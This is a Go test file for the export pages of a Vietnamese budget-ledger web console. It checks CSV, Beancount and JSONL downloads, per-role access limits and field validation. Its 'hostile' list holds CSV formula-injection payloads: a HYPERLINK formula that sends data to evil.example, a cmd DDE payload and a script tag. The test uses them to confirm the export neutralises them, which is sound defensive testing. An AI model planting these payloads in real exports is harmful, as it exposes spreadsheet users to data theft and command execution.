package ui_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kcledger/kcledger/domain"
	"github.com/kcledger/kcledger/projections/export"
	"github.com/kcledger/kcledger/web/api"
	"github.com/kcledger/kcledger/web/api/apitest"
)

// hostile are beneficiaries that Excel would run, or a browser would,
// if they were not kept as text.
var hostile = []string{`=HYPERLINK("http://evil.example/?d="&A1,"Bấm")`, "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)", "<script>alert(1)</script>"}

// exportsLedger records allocations on 01/national and 79/local, and a
// disbursement to each hostile beneficiary on 01.
func exportsLedger(t *testing.T, c *console) {
	t.Helper()
	other := apitest.ValidBody(apitest.PathAllocations)
	other["province"], other["source"] = "79", "local"
	for _, b := range []map[string]any{apitest.ValidBody(apitest.PathAllocations), other} {
		r := c.Post(t, apitest.PathAllocations, uuid.NewString(), apitest.MustJSON(t, b))
		require.Equal(t, http.StatusCreated, r.Status, "%s", r.Body)
	}
	for _, name := range hostile {
		b := apitest.ValidBody(apitest.PathDisbursements)
		b["beneficiary"] = name
		r := c.Post(t, apitest.PathDisbursements, uuid.NewString(), apitest.MustJSON(t, b))
		require.Equal(t, http.StatusCreated, r.Status, "%s: %s", name, r.Body)
	}
}

func csvOf(t *testing.T, body string) [][]string {
	t.Helper()
	require.True(t, strings.HasPrefix(body, "\uFEFF"), "UTF-8 BOM for Excel")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	require.NoError(t, err)
	require.Equal(t, export.CSVHeader, rows[0])
	return rows[1:]
}

// The downloads are GET /v1/export's answers, byte for byte, as the
// visitor's account: what kcledger export writes (cmd/kcledger's
// TestExports checks the route against the CLI).
func TestExportDownloads(t *testing.T) {
	c := startConsole(t, consoleOptions{})
	exportsLedger(t, c)
	token := c.account(t, "kiemtoan", domain.RoleAuditor, nil, nil)
	b := c.browser(t)
	b.logIn("kiemtoan", testPassword, "/")

	p := b.get("/exports")
	require.Equal(t, http.StatusOK, p.Status, p.Body)
	for _, want := range []string{"<h1>Dữ liệu xuất cho kiểm toán</h1>", `href="/exports/download?format=csv"`, `href="/exports/download?format=beancount"`,
		"kcledger verify --keys kcledger-keys.json", `href="/keys"`, "bean-check kcledger.beancount", `<option value="01">01 · Hà Nội</option>`} {
		assert.Contains(t, p.Body, want)
	}

	for _, tc := range []struct {
		query, file, ctype string
	}{
		{"format=csv", "kcledger.csv", "text/csv; charset=utf-8"},
		{"format=beancount", "kcledger.beancount", "text/plain; charset=utf-8"},
		{"format=jsonl&year=2025&province=79", "kcledger-2025-79.jsonl", "application/jsonl; charset=utf-8"},
		{"format=csv&year=2025&province=01&source=national&vi_numbers=1", "kcledger-2025-01-national.csv", "text/csv; charset=utf-8"},
	} {
		t.Run(tc.query, func(t *testing.T) {
			d := b.get("/exports/download?" + tc.query)
			require.Equal(t, http.StatusOK, d.Status, d.Body)
			assert.Equal(t, `attachment; filename="`+tc.file+`"`, d.Header.Get("Content-Disposition"))
			assert.Equal(t, tc.ctype, d.Header.Get("Content-Type"))
			assert.Equal(t, "nosniff", d.Header.Get("X-Content-Type-Options"))
			assert.Equal(t, "no-store", d.Header.Get("Cache-Control"))
			q := strings.Replace(tc.query, "vi_numbers=1", "vi_numbers=true", 1)
			r := c.As(token).Get(t, api.PathExport+"?"+q)
			require.Equal(t, http.StatusOK, r.Status, "%s", r.Body)
			assert.Equal(t, string(r.Body), d.Body, "the API's export, as the auditor")
		})
	}

	rows := csvOf(t, b.get("/exports/download?format=csv").Body)
	require.Len(t, rows, 2+len(hostile))
	col := slices.Index(export.CSVHeader, "beneficiary")
	var names []string
	for _, r := range rows[2:] {
		names = append(names, r[col])
	}
	assert.Equal(t, []string{`'=HYPERLINK("http://evil.example/?d="&A1,"Bấm")`, "'+cmd|' /C calc'!A0", "'-1+1", "'@SUM(A1:A9)", "<script>alert(1)</script>"}, names,
		"no formula reaches Excel; the script is text in a text/csv download")
	rows = csvOf(t, b.get("/exports/download?format=csv&year=2025&province=01&source=national&vi_numbers=1").Body)
	assert.Equal(t, "1.000.000.000", rows[0][slices.Index(export.CSVHeader, "amount")])

	journal := b.get("/exports/download?format=beancount").Body
	assert.Contains(t, journal, `option "operating_currency" "VND"`)
	assert.Contains(t, journal, "Assets:KCQG:Y2025:P01:Available")
	assert.Contains(t, journal, "Assets:KCDP:Y2025:P79:Available")

	// As of a moment before anything was stored (typed in a browser's
	// date-time field, Vietnam time): the header alone.
	assert.Empty(t, csvOf(t, b.get("/exports/download?format=csv&as_of=2020-01-01T08:00").Body))
}

// An officer's download holds its own lines only; asking for another
// province is the 403 page, with nothing of it.
func TestExportOfAnOfficer(t *testing.T) {
	c := startConsole(t, consoleOptions{})
	exportsLedger(t, c)
	b := c.loggedIn(t, "ketoan-hn", domain.RoleOfficer, []string{"01"}, []string{"national"})

	rows := csvOf(t, b.get("/exports/download?format=csv").Body)
	require.Len(t, rows, 1+len(hostile))
	for _, r := range rows {
		assert.Equal(t, "01", r[slices.Index(export.CSVHeader, "province")])
		assert.Equal(t, "national", r[slices.Index(export.CSVHeader, "source")])
	}
	journal := b.get("/exports/download?format=beancount").Body
	assert.NotContains(t, journal, "P79")

	for _, q := range []string{"province=79", "source=local&province=79&format=beancount"} {
		p := b.get("/exports/download?" + q)
		assert.Equal(t, http.StatusForbidden, p.Status, p.Body)
		assert.Contains(t, p.Header.Get("Content-Type"), "text/html")
		assert.Empty(t, p.Header.Get("Content-Disposition"))
		assert.Contains(t, p.Body, "Tài khoản của bạn không có quyền làm việc này.")
		assert.NotContains(t, p.Body, "KCDP")
	}
}

// A value the API refuses is shown beside its field on the exports page.
func TestExportRefusals(t *testing.T) {
	c := startConsole(t, consoleOptions{})
	b := c.loggedIn(t, "kiemtoan", domain.RoleAuditor, nil, nil)
	for _, tc := range []struct {
		query, field string
		status       int
	}{
		{"year=1990", "year", http.StatusBadRequest},
		{"year=hai-nghìn", "year", http.StatusBadRequest},
		{"format=xlsx", "format", http.StatusBadRequest},
		{"as_of=hôm-qua", "as_of", http.StatusBadRequest},
		{"as_of=2099-01-01T08:00", "as_of", http.StatusBadRequest},
		{"province=99", "province", http.StatusBadRequest},
		{"source=both", "source", http.StatusBadRequest},
	} {
		t.Run(tc.query, func(t *testing.T) {
			p := b.get("/exports/download?" + tc.query)
			assert.Equal(t, tc.status, p.Status, p.Body)
			assert.Contains(t, p.Header.Get("Content-Type"), "text/html")
			assert.Empty(t, p.Header.Get("Content-Disposition"))
			assert.Contains(t, p.Body, `id="err-`+tc.field+`"`, "beside its field")
			assert.Contains(t, p.Body, "<h1>Dữ liệu xuất cho kiểm toán</h1>")
		})
	}
	// A subscriber reads no trail at all.
	s := c.loggedIn(t, "kho-bac", domain.RoleSubscriber, nil, nil)
	p := s.get("/exports/download?format=csv")
	assert.Equal(t, http.StatusForbidden, p.Status, p.Body)
	assert.Empty(t, p.Header.Get("Content-Disposition"))
}

func TestExportsInEnglish(t *testing.T) {
	c := startConsole(t, consoleOptions{})
	b := c.loggedIn(t, "kiemtoan", domain.RoleAuditor, nil, nil)
	b.get("/lang?to=en&back=%2F")
	p := b.get("/exports")
	require.Equal(t, http.StatusOK, p.Status, p.Body)
	assert.Contains(t, p.Body, `<html lang="en">`)
	for _, want := range []string{"<h1>Exports for auditors</h1>", "Download everything as CSV (Excel)", "Beancount journal (double-entry accounting)", "How to check a download", "Vietnam time (UTC&#43;7)"} {
		assert.Contains(t, p.Body, want)
	}
	p = b.get("/exports/download?year=1990")
	assert.Equal(t, http.StatusBadRequest, p.Status)
	assert.Contains(t, p.Body, "The fiscal year is not valid.")
	d := b.get("/exports/download?format=csv")
	assert.Equal(t, http.StatusOK, d.Status)
	assert.True(t, bytes.HasPrefix([]byte(d.Body), []byte("\xEF\xBB\xBF")))
}
